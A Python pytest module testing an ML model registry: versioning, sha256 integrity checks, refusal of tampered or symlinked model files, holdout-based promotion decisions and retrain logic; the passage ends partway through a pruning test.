"""Versions, cards, sha256 checks before unpickling, promotion and the retrain decision."""

from __future__ import annotations

import copy
import re
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from featurehealth import config, display, model, registry, runlog, signals

PARAMS = {
    **config.load_profile("default")["model"],
    "n_estimators": 15, "min_samples_leaf": 3, "max_samples": 0.5, "n_jobs": 1,
    "permutation_repeats": 1, "permutation_max_rows": 200,
    "promote_min_positives": 1,  # the tiny datasets below hold a dozen or two positive held-out feature-days
}
DEGRADATION = config.load_profile("default")["degradation"]
SIGNALS = ["lead", "degraded_today", "p95_latency_z", "crash_rate_z", "avg_feedback_z"]  # those of _dataset
SETTINGS = registry.training_settings(PARAMS, DEGRADATION, signals=SIGNALS)


def _dataset(*, noisy: bool = False, n_days: int = 80) -> pd.DataFrame:
    """Signal rows of 4 features x ``n_days`` days; the target follows ``lead`` unless ``noisy``."""
    rng = np.random.default_rng(5)
    days = pd.date_range("2026-01-01", periods=n_days, freq="D")
    frame = pd.DataFrame({
        "feature_id": np.tile(["a", "b", "c", "d"], len(days)),
        "date": np.repeat(days, 4),
    })
    lead = rng.normal(size=len(frame))
    target = (lead + rng.normal(scale=0.5, size=len(frame)) > 1.0).astype(float)
    return frame.assign(
        lead=rng.normal(size=len(frame)) if noisy else lead,
        degraded_today=rng.integers(0, 2, len(frame)).astype(float),
        p95_latency_z=rng.normal(size=len(frame)), crash_rate_z=0.0, avg_feedback_z=0.0,
        target=np.where(frame["date"] > days[-8], np.nan, target),
    )


def _train(dataset: pd.DataFrame, **overrides: object) -> model.TrainingReport:
    return model.train_and_evaluate(dataset, None, params={**PARAMS, **overrides})


_TRAINED: dict[tuple[object, ...], model.TrainingReport] = {}


def _report(dataset: pd.DataFrame, **overrides: object) -> model.TrainingReport:
    """:func:`_train`'s report, trained once per module for each dataset and overrides; each caller gets a copy.

    Training is deterministic (test_same_inputs_give_the_same_version_and_bytes trains twice to show
    it), and retraining the same few datasets in almost every test was most of this module's time.
    """
    key = (tuple(dataset.columns), tuple(map(str, dataset.dtypes)),
           pd.util.hash_pandas_object(dataset).to_numpy().tobytes(), tuple(sorted(overrides.items())))
    if key not in _TRAINED:
        _TRAINED[key] = _train(dataset, **overrides)
    return copy.deepcopy(_TRAINED[key])


def _register_one(paths: config.RunPaths) -> str:
    """Register the model trained on :func:`_dataset` under ``paths`` and return its version."""
    dataset = _dataset()
    return registry.register(paths, _report(dataset), dataset, params=PARAMS, degradation=DEGRADATION)["version"]


@pytest.fixture()
def paths(tmp_path: Path) -> config.RunPaths:
    return config.RunPaths(tmp_path / "run").ensure()


def test_first_model_is_promoted_and_loads_after_its_hash_is_checked(paths: config.RunPaths) -> None:
    dataset = _dataset()
    decision = registry.register(paths, _report(dataset), dataset, params=PARAMS, degradation=DEGRADATION)
    assert decision["promoted"] and decision["previous_version"] is None
    loaded, card = registry.load_current(paths)
    assert card["version"] == decision["version"] and card["signals"] == list(loaded.signals)
    assert card["file_sha256"] == runlog.sha256_file(paths.models / decision["version"] / "risk_model.joblib")
    assert {"training_window", "params", "library_versions", "training_data_hash", "metrics"} <= set(card)
    assert runlog.read_json(paths.reports / "promotion.json")["version"] == decision["version"]
    written = registry.publish_reports(paths, card, degradation=DEGRADATION)
    # No ground truth here: no lead-time figure, no per-incident table.
    assert {p.name for p in written} == {
        "metrics.json", "feature_importance.csv", "test_predictions.parquet", "model_curves.png", "model_calibration.png",
    }
    assert (paths.reports / "model_curves.png").read_bytes().startswith(b"\x89PNG")
    assert runlog.read_json(paths.reports / "metrics.json")["model_version"] == card["version"]


def test_same_inputs_give_the_same_version_and_bytes(tmp_path: Path) -> None:
    dataset = _dataset()
    first = registry.save_version(config.RunPaths(tmp_path / "one"), _train(dataset), params=PARAMS, degradation=DEGRADATION)
    run_only = {**PARAMS, "retrain": "always", "n_jobs": 2}
    again = registry.save_version(config.RunPaths(tmp_path / "two"), _train(dataset), params=run_only, degradation=DEGRADATION)
    assert first["version"] == again["version"] and first["file_sha256"] == again["file_sha256"]
    figures = [config.RunPaths(tmp_path / run).models / first["version"] / "reports" / "model_curves.png"
               for run in ("one", "two")]
    assert figures[0].read_bytes() == figures[1].read_bytes()
    shallow = {**PARAMS, "max_depth": 3}
    other = registry.save_version(config.RunPaths(tmp_path / "three"), _report(dataset, max_depth=3), params=shallow, degradation=DEGRADATION)
    assert other["version"] != first["version"]


def test_a_saved_model_is_written_through_no_planted_link_and_vouched_for_by_its_own_bytes(tmp_path: Path) -> None:
    # A fixed temporary name (.risk_model.joblib.tmp) let a link planted there be written through.
    dataset = _dataset()
    paths = config.RunPaths(tmp_path / "out")
    version = registry.model_version(_report(dataset).result, params=PARAMS)
    outside = tmp_path / "outside.txt"
    outside.write_text("keep me")
    (paths.models / version).mkdir(parents=True)
    (paths.models / version / f".{registry.MODEL_FILE}.tmp").symlink_to(outside)
    card = registry.save_version(paths, _report(dataset), params=PARAMS, degradation=DEGRADATION)
    assert outside.read_text() == "keep me"
    saved = paths.models / version / registry.MODEL_FILE
    assert not saved.is_symlink() and card["file_sha256"] == runlog.sha256_file(saved)
    assert registry.load_model(saved, paths.models / version / registry.CARD_FILE)[1]["version"] == version


def test_published_metrics_name_the_degradation_rules_changed_since_the_model_was_trained(
    paths: config.RunPaths,
) -> None:
    # A model kept after a rule change (model.retrain=never, or a refused candidate) showed metrics
    # measured on its own rules' labels with nothing saying they are not today's.
    dataset = _dataset()
    registry.register(paths, _report(dataset), dataset, params=PARAMS, degradation=DEGRADATION)
    card = registry.load_current(paths)[1]
    registry.publish_reports(paths, card, degradation=DEGRADATION)
    assert runlog.read_json(paths.reports / "metrics.json")["degradation_changed"] == {}
    today = {**DEGRADATION, "p95_latency_rel": 1.3, "min_crashes": 5}
    registry.publish_reports(paths, card, degradation=today)
    published = runlog.read_json(paths.reports / "metrics.json")
    assert published["degradation_changed"] == {
        "min_crashes": {"trained_with": DEGRADATION["min_crashes"], "current": 5},
        "p95_latency_rel": {"trained_with": DEGRADATION["p95_latency_rel"], "current": 1.3},
    }
    # Said, not re-evaluated: every other figure is the version's own.
    own = runlog.read_json(paths.models / card["version"] / "reports" / "metrics.json")
    assert "degradation_changed" not in own
    assert {k: v for k, v in published.items() if k != "degradation_changed"} == own
    # A card from before cards kept the rules cannot tell: unknown, not "unchanged".
    unknown = {k: v for k, v in card.items() if k != "degradation"}
    registry.publish_reports(paths, unknown, degradation=today)
    assert runlog.read_json(paths.reports / "metrics.json")["degradation_changed"] is None


def test_a_version_saved_without_figures_gets_them_drawn_when_published(paths: config.RunPaths) -> None:
    card = registry.register(paths, _report(_dataset()), _dataset(), params=PARAMS, degradation=DEGRADATION)
    figures = paths.models / card["version"] / "reports"
    drawn = {name: (figures / name).read_bytes() for name in ("model_curves.png", "model_calibration.png")}
    for name in drawn:
        (figures / name).unlink()
    registry.publish_reports(paths, registry.load_current(paths)[1], degradation=DEGRADATION)
    assert {name: (paths.reports / name).read_bytes() for name in drawn} == drawn


def test_tampered_or_unvouched_model_file_is_refused(paths: config.RunPaths) -> None:
    dataset = _dataset()
    registry.register(paths, _report(dataset), dataset, params=PARAMS, degradation=DEGRADATION)
    target = paths.models / "risk_model.joblib"
    target.write_bytes(target.read_bytes() + b"\x00")
    with pytest.raises(registry.ModelIntegrityError, match="does not match") as tampered:
        registry.load_current(paths)
    assert _sentences(str(tampered.value)) == 1
    # Retraining, as the message advises, replaces the tampered model: it is never loaded.
    decision = registry.register(paths, _report(dataset, max_depth=3), dataset, params={**PARAMS, "max_depth": 3}, degradation=DEGRADATION)
    assert decision["promoted"] and "failed its integrity check (Refusing to load" in decision["reason"]
    assert decision["reason"].endswith("which replaces it), so there is nothing to compare against.")
    assert registry.load_current(paths)[1]["version"] == decision["version"]
    (paths.models / "risk_model.card.json").write_text('{"version": "x", "file_sha')
    with pytest.raises(registry.ModelIntegrityError, match="risk_model.card.json of the model in use is not valid JSON"):
        registry.decide_training(paths, retrain="auto", settings=SETTINGS)
    (paths.models / "risk_model.card.json").unlink()
    with pytest.raises(registry.ModelIntegrityError, match="card") as unvouched:
        registry.load_model(target, paths.models / "risk_model.card.json")
    assert _sentences(str(unvouched.value)) == 1


def _sentences(message: str) -> int:
    """Full stops that end a sentence (not the "..." of a shortened hash, not one inside a path)."""
    return len(re.findall(r"(?<!\.)\.(?=\s|$)", message))


def test_worse_candidate_is_kept_out_and_better_one_promoted(paths: config.RunPaths) -> None:
    good, noisy = _dataset(), _dataset(noisy=True)
    first = registry.register(paths, _report(good), good, params=PARAMS, degradation=DEGRADATION)
    # A model trained on a signal that says nothing is judged on the same rows: it loses.
    worse = registry.register(paths, _report(noisy), good, params=PARAMS, degradation=DEGRADATION)
    assert not worse["promoted"] and worse["comparison"]["comparable"]
    assert worse["comparison"]["candidate_pr_auc"] < worse["comparison"]["current_pr_auc"]
    assert registry.load_current(paths)[1]["version"] == first["version"]
    index = runlog.read_json(paths.models / "registry.json")
    assert index["current"] == first["version"] and len(index["versions"]) == 2
    refused = next(v for v in index["versions"] if v["version"] == worse["version"])
    assert refused["promoted"] is False and refused["promotion_reason"].startswith("kept the model in use: its PR-AUC")
    kept = runlog.read_json(paths.models / worse["version"] / registry.PROMOTION_FILE)
    assert kept == runlog.read_json(paths.reports / registry.PROMOTION_FILE) == worse
    assert (paths.models / worse["version"] / "card.json").is_file()


#: The held-out rows of a hand-made comparison, as compare_on_holdout gives them.
HELD_OUT = {"n_rows": 12, "n_positives": 5, "holdout_start": "2026-04-23", "holdout_end": "2026-04-23",
            "pr_auc_difference_interval": [-0.2104, 0.0652]}


def test_a_promotion_decision_says_how_many_held_out_rows_and_positives_it_rests_on_and_its_interval() -> None:
    # A decision on one day of 12 feature-days read like one on months of them; "0.51 beats 0.50"
    # did not say that the difference could as well have gone the other way.
    comparison = {"comparable": True, "candidate_pr_auc": 0.1111, "current_pr_auc": 0.125, **HELD_OUT}
    assert registry.promotion_decision(comparison, tolerance=0.01) == (False, (
        "kept the model in use: its PR-AUC 0.1250 beats 0.1111 on the 12 held-out feature-days unseen by both "
        "(2026-04-23 .. 2026-04-23, 5 of them positive; new minus in use -0.0139, 95% interval -0.2104 .. +0.0652 "
        "over resampled runs of days; tolerance 0.01)."))
    for new in (0.2, 0.12):
        reason = registry.promotion_decision({**comparison, "candidate_pr_auc": new}, tolerance=0.01)[1]
        assert "on the 12 held-out feature-days unseen by both (2026-04-23 .. 2026-04-23, 5 of them positive" in reason
        assert "95% interval -0.2104 .. +0.0652" in reason
        assert _sentences(reason) == 1


def test_a_comparison_records_the_positives_and_the_interval_and_too_few_positives_are_not_comparable() -> None:
    dataset = _dataset()
    report = _report(dataset)
    split = report.result.split
    compare = {"test_start": split.test_start, "test_end": split.test_end, "horizon_days": PARAMS["horizon_days"],
               "seed": 7}
    card = {"horizon_days": PARAMS["horizon_days"], "training_window": {"end": "2026-01-10"}}
    held_out = dataset[dataset["target"].notna() & (dataset["date"] >= split.test_start)
                       & (dataset["date"] <= split.test_end)]
    positives = int(held_out["target"].sum())
    # Exactly the minimum is enough for a verdict.
    scored = registry.compare_on_holdout(report.result.model, (report.result.model, card), dataset,
                                         min_positives=positives, **compare)
    assert scored["comparable"] and scored["n_rows"] == len(held_out) and scored["n_positives"] == positives
    assert scored["pr_auc_difference_interval"] == [0.0, 0.0]  # the same model on both sides
    # Below the minimum the verdict would be noise: not comparable, so the new version is promoted.
    few = registry.compare_on_holdout(report.result.model, (report.result.model, card), dataset,
                                      min_positives=positives + 1, **compare)
    assert few == {
        "comparable": False, "n_rows": len(held_out), "n_positives": positives,
        "reason": f"only {positives} of the {len(held_out)} held-out feature-days unseen by both models "
                  f"({split.test_start.date()} .. {split.test_end.date()}) are positive, fewer than "
                  f"model.promote_min_positives ({positives + 1}) for a verdict beyond noise",
    }
    promoted, sentence = registry.promotion_decision(few, tolerance=0.01)
    assert promoted and _sentences(sentence) == 1


def test_promote_min_positives_is_run_only_it_changes_neither_the_version_nor_the_training_settings() -> None:
    assert registry.training_settings({**PARAMS, "promote_min_positives": 3}, DEGRADATION, signals=SIGNALS) == SETTINGS


def test_promotion_decision_respects_tolerance() -> None:
    comparison = {"comparable": True, "candidate_pr_auc": 0.50, "current_pr_auc": 0.52, **HELD_OUT}
    assert not registry.promotion_decision(comparison, tolerance=0.0)[0]
    assert registry.promotion_decision(comparison, tolerance=0.05)[0]
    # Worse by exactly the tolerance is not worse by more than it (binary-exact values).
    assert registry.promotion_decision({**comparison, "candidate_pr_auc": 0.25, "current_pr_auc": 0.5},
                                       tolerance=0.25)[0]
    assert registry.promotion_decision({"comparable": False, "reason": "no model is in use"}, tolerance=0.0)[0]


def test_a_promotion_within_the_tolerance_does_not_claim_the_candidate_scored_higher() -> None:
    # It read "promoted: PR-AUC 0.5000 >= 0.5200 of the model in use (tolerance 0.05)".
    comparison = {"comparable": True, "candidate_pr_auc": 0.50, "current_pr_auc": 0.52, **HELD_OUT}
    promoted, reason = registry.promotion_decision(comparison, tolerance=0.05)
    assert promoted and ">=" not in reason and "within the tolerance 0.05" in reason
    better = {"comparable": True, "candidate_pr_auc": 0.53, "current_pr_auc": 0.52, **HELD_OUT}
    assert ">= 0.5200" in registry.promotion_decision(better, tolerance=0.05)[1]


def test_03_model_describes_the_promotion_rule_the_registry_applies() -> None:
    # Its markdown said a new version replaces the model in use "only if its PR-AUC ... is not
    # lower", while a candidate up to model.promote_tolerance below is promoted (test above).
    import nbformat

    notebook = nbformat.read(config.NOTEBOOKS_DIR / "03_model.ipynb", as_version=4)
    text = next(c.source for c in notebook.cells if c.cell_type == "markdown" and "## Train, or keep" in c.source)
    comparison = {"comparable": True, "candidate_pr_auc": 0.50, "current_pr_auc": 0.505, **HELD_OUT}
    assert registry.promotion_decision(comparison, tolerance=0.01)[0]
    assert "promote_tolerance" in " ".join(text.split())
    assert "is not lower" not in " ".join(text.split())


def test_decide_training_modes(paths: config.RunPaths) -> None:
    assert registry.decide_training(paths, retrain="auto", settings=SETTINGS)["train"]
    with pytest.raises(FileNotFoundError, match="no model is in use"):
        registry.decide_training(paths, retrain="never", settings=SETTINGS)
    with pytest.raises(ValueError, match="auto, always, never"):
        registry.decide_training(paths, retrain="sometimes", settings=SETTINGS)
    version = _register_one(paths)
    assert (paths.reports / registry.PROMOTION_FILE).is_file()
    assert not registry.decide_training(paths, retrain="auto", settings=SETTINGS)["train"]
    assert not registry.decide_training(paths, retrain="never", settings=SETTINGS)["train"]
    assert not (paths.reports / registry.PROMOTION_FILE).exists()  # an earlier run's decision is not this run's
    assert registry.decide_training(paths, retrain="always", settings=SETTINGS)["train"]
    advice = {"retrain_recommended": True, "reasons": ["drift"], "model_version": "old"}
    runlog.write_json(paths.reports / "retrain.json", advice)
    assert not registry.decide_training(paths, retrain="auto", settings=SETTINGS)["train"]  # advice about another model
    runlog.write_json(paths.reports / "retrain.json", {**advice, "model_version": version})
    decision = registry.decide_training(paths, retrain="auto", settings=SETTINGS)
    assert decision["train"] and "drift" in decision["reason"]
    assert not registry.decide_training(paths, retrain="never", settings=SETTINGS)["train"]


def test_never_names_the_signals_and_settings_the_model_in_use_was_not_trained_with(paths: config.RunPaths) -> None:
    version = _register_one(paths)
    assert registry.decide_training(paths, retrain="never", settings=SETTINGS)["reason"] == (
        f"scoring with model {version} in use (model.retrain is 'never')."
    )
    newer = registry.training_settings({**PARAMS, "max_depth": 4}, DEGRADATION, signals=[*SIGNALS, "error_rate_mean14"])
    decision = registry.decide_training(paths, retrain="never", settings=newer)
    assert not decision["train"]
    assert decision["reason"] == (
        f"scoring with model {version} in use (model.retrain is 'never'), trained with other settings than this "
        f"run's (model.max_depth 10 -> 4, signals +error_rate_mean14): it scores as trained, on its own signals "
        f"only; model.retrain=auto or always trains with this run's."
    )


def test_changed_training_settings_retrain_once_under_auto(paths: config.RunPaths) -> None:
    dataset = _dataset()
    in_use = registry.register(paths, _report(dataset), dataset, params=PARAMS, degradation=DEGRADATION)["version"]
    deeper = registry.training_settings({**PARAMS, "max_depth": 4, "n_jobs": 2}, {**DEGRADATION, "min_usage": 10},
                                        signals=SIGNALS)
    decision = registry.decide_training(paths, retrain="auto", settings=deeper)
    assert decision["train"]
    assert decision["reason"].endswith("model.max_depth 10 -> 4, degradation.min_usage 50 -> 10.")  # n_jobs: run-only
    assert not registry.decide_training(paths, retrain="never", settings=deeper)["train"]
    # Run-only keys (and the risk buckets, cut when scoring) never ask for a model.
    buckets = registry.training_settings({**PARAMS, "risk_buckets": [0.2, 0.5], "promote_tolerance": 0.1}, DEGRADATION,
                                         signals=SIGNALS)
    assert not registry.decide_training(paths, retrain="auto", settings=buckets)["train"]
    # A version trained with the new settings but not promoted is not trained again on every run.
    noisy = _dataset(noisy=True)
    params = {**PARAMS, "max_depth": 4}
    kept_out = registry.register(paths, _report(noisy, max_depth=4), dataset, params=params,
                                 degradation={**DEGRADATION, "min_usage": 10})
    assert not kept_out["promoted"]
    decision = registry.decide_training(paths, retrain="auto", settings=deeper)
    assert not decision["train"] and f"version {kept_out['version']} was already trained with these settings" in decision["reason"]
    # The hint to train again said nothing of the same data giving the same refused version (training
    # is deterministic): what lets such a version replace the model in use is the tolerance.
    assert "same data" in decision["reason"] and "model.promote_tolerance" in decision["reason"]
    # never must not send the user to auto, which keeps the model in use for that refused version.
    assert registry.decide_training(paths, retrain="never", settings=deeper)["reason"].endswith(
        f"; model.retrain=always trains with this run's (auto keeps model {in_use}: version "
        f"{kept_out['version']}, trained with them, was refused by the holdout comparison).")
    # A version saved before promotion decisions were kept counts as refused too.
    (paths.models / kept_out["version"] / registry.PROMOTION_FILE).unlink()
    assert not registry.decide_training(paths, retrain="auto", settings=deeper)["train"]


def test_card_without_degradation_rules_is_judged_on_its_model_parameters(paths: config.RunPaths) -> None:
    dataset = _dataset()
    registry.register(paths, _report(dataset), dataset, params=PARAMS, degradation=DEGRADATION)
    card_path = paths.models / registry.CURRENT_CARD
    card = runlog.read_json(card_path)
    del card["degradation"]  # as written before cards kept the rules
    runlog.write_json(card_path, card)
    other_rules = registry.training_settings(PARAMS, {**DEGRADATION, "min_usage": 10}, signals=SIGNALS)
    assert not registry.decide_training(paths, retrain="auto", settings=other_rules)["train"]


def _edit_signals(monkeypatch: pytest.MonkeyPatch) -> dict[str, object]:
    """The training settings after an edit of signals.py that changes what a signal computes, not its name."""
    mean = signals._rolling_mean
    monkeypatch.setattr(signals, "_rolling_mean", lambda values, days, **kw: mean(values, days, **kw) * 1.01)
    return registry.training_settings(PARAMS, DEGRADATION, signals=SIGNALS)


def test_the_card_records_the_signal_definitions_the_model_was_trained_with(paths: config.RunPaths) -> None:
    dataset = _dataset()
    registry.register(paths, _report(dataset), dataset, params=PARAMS, degradation=DEGRADATION)
    _, card = registry.load_current(paths)
    assert card["signal_definitions"] == signals.definitions_fingerprint() == SETTINGS["signal_definitions"]


def test_signals_computed_otherwise_under_the_same_names_retrain_once_under_auto(
    paths: config.RunPaths, monkeypatch: pytest.MonkeyPatch
) -> None:
    version = _register_one(paths)
    edited = _edit_signals(monkeypatch)
    assert edited["signals"] == SETTINGS["signals"] and edited != SETTINGS
    assert registry.decide_training(paths, retrain="auto", settings=edited) == {"train": True, "reason": (
        f"the signal definitions changed since model {version} was trained (featurehealth upgraded or "
        f"signals.py edited)."
    )}
    # With other settings changed too, both are named.
    deeper = registry.training_settings({**PARAMS, "max_depth": 4}, DEGRADATION, signals=SIGNALS)
    assert registry.decide_training(paths, retrain="auto", settings=deeper)["reason"].endswith(
        "signals.py edited); the training settings differ from model " + version + "'s: model.max_depth 10 -> 4."
    )
    # A version trained with the new definitions that the holdout comparison refused is not trained again.
    noisy = _dataset(noisy=True)
    refused = registry.register(paths, _report(noisy), noisy, params=PARAMS, degradation=DEGRADATION)
    assert not refused["promoted"]
    decision = registry.decide_training(paths, retrain="auto", settings=edited)
    assert not decision["train"] and f"version {refused['version']} was already trained" in decision["reason"]


def test_never_says_the_model_in_use_reads_signals_computed_otherwise_and_that_retraining_fixes_it(
    paths: config.RunPaths, monkeypatch: pytest.MonkeyPatch
) -> None:
    version = _register_one(paths)
    edited = _edit_signals(monkeypatch)
    decision = registry.decide_training(paths, retrain="never", settings=edited)
    assert decision == {"train": False, "reason": (
        f"scoring with model {version} in use (model.retrain is 'never'), on signals computed otherwise than in its "
        f"training (the signal definitions changed since it was trained: featurehealth upgraded or signals.py "
        f"edited), which it reads as the old ones until retrained; model.retrain=auto or always trains with this run's."
    ), "kept": "model.retrain is 'never'; the signal definitions changed since it was trained"}
    deeper = {**edited, "model": {**edited["model"], "max_depth": 4}}
    assert registry.decide_training(paths, retrain="never", settings=deeper)["reason"] == (
        f"scoring with model {version} in use (model.retrain is 'never'), on signals computed otherwise than in its "
        f"training (the signal definitions changed since it was trained: featurehealth upgraded or signals.py "
        f"edited), which it reads as the old ones until retrained, and trained with other settings than this run's "
        f"(model.max_depth 10 -> 4): it scores as trained, on its own signals only; model.retrain=auto or always "
        f"trains with this run's."
    )


@pytest.mark.parametrize("recorded", ["absent", None, 7])
def test_a_card_without_signal_definitions_is_not_retrained_for_that_alone_and_says_they_were_not_checked(
    paths: config.RunPaths, monkeypatch: pytest.MonkeyPatch, recorded: object
) -> None:
    version = _register_one(paths)
    card_path = paths.models / registry.CURRENT_CARD
    card = runlog.read_json(card_path)
    if recorded == "absent":
        del card["signal_definitions"]  # as written by a featurehealth before cards kept them
    else:
        card["signal_definitions"] = recorded
    runlog.write_json(card_path, card)
    edited = _edit_signals(monkeypatch)
    for retrain in ("auto", "never"):
        assert registry.decide_training(paths, retrain=retrain, settings=edited) == {"train": False, "reason": (
            f"scoring with model {version} in use (model.retrain is {retrain!r}); its card does not record the "
            f"signal definitions it was trained with (an older featurehealth wrote it), so whether this run "
            f"computes its signals as its training did could not be checked: model.retrain=always retrains with "
            f"this run's."
        ), "kept": f"{'same settings, retraining not advised before this run' if retrain == 'auto' else 'model.retrain is ' + repr(retrain)}; its signal "
                   f"definitions could not be checked"}
    # Other changes still retrain it.
    other_rules = registry.training_settings(PARAMS, {**DEGRADATION, "min_usage": 10}, signals=SIGNALS)
    assert registry.decide_training(paths, retrain="auto", settings=other_rules)["train"]


def test_a_card_without_signal_definitions_kept_for_another_reason_still_says_they_were_not_checked(
    paths: config.RunPaths,
) -> None:
    # On an upgrade the model in use had other settings than the profile, and the version with the profile's
    # was refused: the run kept it and its reason never said its signals could not be checked.
    dataset, noisy = _dataset(), _dataset(noisy=True)
    version = _register_one(paths)
    refused = registry.register(paths, _report(noisy, max_depth=4), dataset, params={**PARAMS, "max_depth": 4},
                                degradation=DEGRADATION)["version"]
    for card_path in (paths.models / registry.CURRENT_CARD, *paths.models.glob(f"*/{registry.CARD_FILE}")):
        card = runlog.read_json(card_path)
        del card["signal_definitions"]  # as written by a featurehealth before cards kept them
        runlog.write_json(card_path, card)
    unchecked = ("its card does not record the signal definitions it was trained with (an older featurehealth "
                 "wrote it), so whether this run computes its signals as its training did could not be checked")
    deeper = registry.training_settings({**PARAMS, "max_depth": 4}, DEGRADATION, signals=SIGNALS)
    kept = registry.decide_training(paths, retrain="auto", settings=deeper)
    assert not kept["train"] and kept["reason"].startswith(
        f"scoring with model {version} in use (model.retrain is 'auto'); {unchecked}; version {refused} was already "
        f"trained with these settings")
    assert kept["kept"] == (f"the holdout comparison refused version {refused} with these settings; its signal "
                            f"definitions could not be checked")
    never = registry.decide_training(paths, retrain="never", settings=deeper)
    assert never == {"train": False, "reason": (
        f"scoring with model {version} in use (model.retrain is 'never'), trained with other settings than this "
        f"run's (model.max_depth 10 -> 4): it scores as trained, on its own signals only; {unchecked}; "
        f"model.retrain=always trains with this run's (auto keeps model {version}: version {refused}, trained with "
        f"them, was refused by the holdout comparison)."
    ), "kept": "model.retrain is 'never'; trained with other settings: model.max_depth 10 -> 4; its signal "
               "definitions could not be checked"}
    registry.put_in_use(paths, refused)
    registry.put_in_use(paths, version)  # back by hand
    by_hand = registry.decide_training(paths, retrain="auto", settings=deeper)
    assert by_hand["reason"].startswith(f"scoring with model {version} in use (model.retrain is 'auto'); {unchecked}; "
                                        f"version {refused} has these settings")
    assert by_hand["kept"] == "put in use by hand with model.use_version; its signal definitions could not be checked"


def test_version_cards_end_with_the_newest_version_promoted_or_not(paths: config.RunPaths) -> None:
    good = _dataset()
    first = registry.register(paths, _report(good), good, params=PARAMS, degradation=DEGRADATION)
    later = _dataset(n_days=90)  # ten more days; the candidate learns from noise
    refused = registry.register(paths, _report(_dataset(noisy=True, n_days=90)), later, params=PARAMS,
                                degradation=DEGRADATION)
    assert not refused["promoted"] and registry.load_current(paths)[1]["version"] == first["version"]
    # The drift step counts the model's age from the newest version: a refused one restarts the clock.
    assert [c["version"] for c in registry.version_cards(paths)] == [first["version"], refused["version"]]


def test_retraining_the_version_in_use_keeps_its_promotion_decision(paths: config.RunPaths) -> None:
    # model.retrain=always on unchanged data reproduces the version in use: that is no new decision,
    # so the one kept with the version (and quoted in registry.json) must survive it.
    dataset = _dataset()
    first = registry.register(paths, _report(dataset), dataset, params=PARAMS, degradation=DEGRADATION)
    kept = paths.models / first["version"] / registry.PROMOTION_FILE
    before = kept.read_bytes()
    again = registry.register(paths, _report(dataset), dataset, params=PARAMS, degradation=DEGRADATION)
    assert again["version"] == first["version"] and "this same version" in again["reason"]
    assert runlog.read_json(paths.reports / registry.PROMOTION_FILE) == again  # this run's report says what it did
    assert kept.read_bytes() == before
    listed = runlog.read_json(paths.models / "registry.json")["versions"]
    assert [v["promotion_reason"] for v in listed] == [first["reason"]]


def test_version_cards_order_by_the_day_a_version_was_built_not_its_training_end(paths: config.RunPaths) -> None:
    # After horizon_days went from 7 to 14, the version built on 05-06 ends its training before the one
    # built on 04-29: the drift step, which takes the last card as the newest, must still get it (age 0).
    from datetime import date

    from featurehealth import drift

    built = {"older": ("2026-03-13", 7), "newer": ("2026-03-06", 14)}
    for version, (train_end, horizon) in built.items():
        runlog.write_json(paths.models / version / registry.CARD_FILE, {
            "version": version, "training_window": {"start": "2026-01-01", "end": train_end},
            "test_window": {"start": "2026-03-21", "end": "2026-04-22"}, "horizon_days": horizon,
        })
    cards = registry.version_cards(paths)
    assert [c["version"] for c in cards] == ["older", "newer"]
    assert drift.model_age_days(cards[-1], as_of=date(2026, 5, 6)) == 0


def test_settings_reverted_to_a_replaced_version_s_train_again_under_auto(paths: config.RunPaths) -> None:
    # Model A (max_depth 10) is replaced by B (max_depth 4, promoted); the profile goes back to A's settings.
    # A was not refused by the holdout comparison, it was superseded: the reverted settings must take effect.
    dataset = _dataset()
    first = registry.register(paths, _report(dataset), dataset, params=PARAMS, degradation=DEGRADATION)
    deeper = {**PARAMS, "max_depth": 4, "promote_tolerance": 1.0}  # promoted whatever its PR-AUC
    second = registry.register(paths, _report(dataset, max_depth=4), dataset, params=deeper, degradation=DEGRADATION)
    assert second["promoted"] and second["version"] != first["version"]
    decision = registry.decide_training(paths, retrain="auto", settings=SETTINGS)
    assert decision["train"] and decision["reason"].endswith("model.max_depth 4 -> 10.")


def test_a_new_or_dropped_signal_trains_under_auto(paths: config.RunPaths) -> None:
    dataset = _dataset()
    report = _report(dataset)
    assert sorted(report.result.model.signals) == sorted(SIGNALS)
    registry.register(paths, report, dataset, params=PARAMS, degradation=DEGRADATION)
    assert not registry.decide_training(paths, retrain="auto", settings=SETTINGS)["train"]
    grown = registry.training_settings(PARAMS, DEGRADATION, signals=[*SIGNALS[1:], "new_z", "other_z"])
    decision = registry.decide_training(paths, retrain="auto", settings=grown)
    assert decision["train"] and decision["reason"].endswith("signals +new_z, other_z, signals -lead.")


def test_a_candidate_replacing_a_model_whose_signal_was_dropped_says_so_without_retrain_advice(
    paths: config.RunPaths,
) -> None:
    # The reason quoted the scoring error "... Retrain it (model.retrain=always).", advice that made
    # no sense in the decision of a version just trained (registry.json, the dashboard's Model tab).
    dataset = _dataset()
    grown = dataset.assign(extra_z=np.linspace(0.0, 1.0, len(dataset)))
    registry.register(paths, _report(grown), grown, params=PARAMS, degradation=DEGRADATION)
    replaced = registry.register(paths, _report(dataset), dataset, params=PARAMS, degradation=DEGRADATION)
    assert replaced["promoted"] and not replaced["comparison"]["comparable"]
    assert "extra_z" in replaced["reason"] and "retrain" not in replaced["reason"].lower()


def test_a_candidate_replacing_a_model_whose_signal_the_input_no_longer_feeds_does_not_blame_the_code(
    paths: config.RunPaths,
) -> None:
    # Without a metadata file build_signals leaves out tier_code: the code still builds it, the
    # input fed it nothing, yet the reason said "signals the code no longer builds".
    dataset = _dataset()
    with_tier = dataset.assign(tier_code=np.tile([0.0, 1.0], len(dataset) // 2))
    registry.register(paths, _report(with_tier), with_tier, params=PARAMS, degradation=DEGRADATION)
    replaced = registry.register(paths, _report(dataset), dataset, params=PARAMS, degradation=DEGRADATION)
    assert replaced["promoted"] and "tier_code" in replaced["reason"]
    assert "code no longer builds" not in replaced["reason"] and "input" in replaced["reason"]


def _fake_card(paths: config.RunPaths, version: str, *, test_end: str) -> Path:
    """A version folder with a card that says when it was built (``test_end`` + 7 days), as version_cards reads it."""
    runlog.write_json(paths.models / version / registry.CARD_FILE, {
        "version": version, "training_window": {"start": "2026-01-01", "end": "2026-02-01"},
        "test_window": {"start": "2026-02-09", "end": test_end}, "horizon_days": 7,
    })
    return paths.models / version


def test_prune_versions_removes_the_oldest_beyond_keep_but_never_the_protected_or_newest(paths: config.RunPaths) -> None:
    # Names sort against age on purpose: age is the day a version was built, as the drift step reads it.
    for version, test_end in (("e", "2026-03-01"), ("d", "2026-03-02"), ("c", "2026-03-03"), ("b", "2026-03-04"),
                              ("a", "2026-03-05")):
        _fake_card(paths, version, test_end=test_end)
    (paths.models / "being-written").mkdir()  # no card yet: not a version to judge
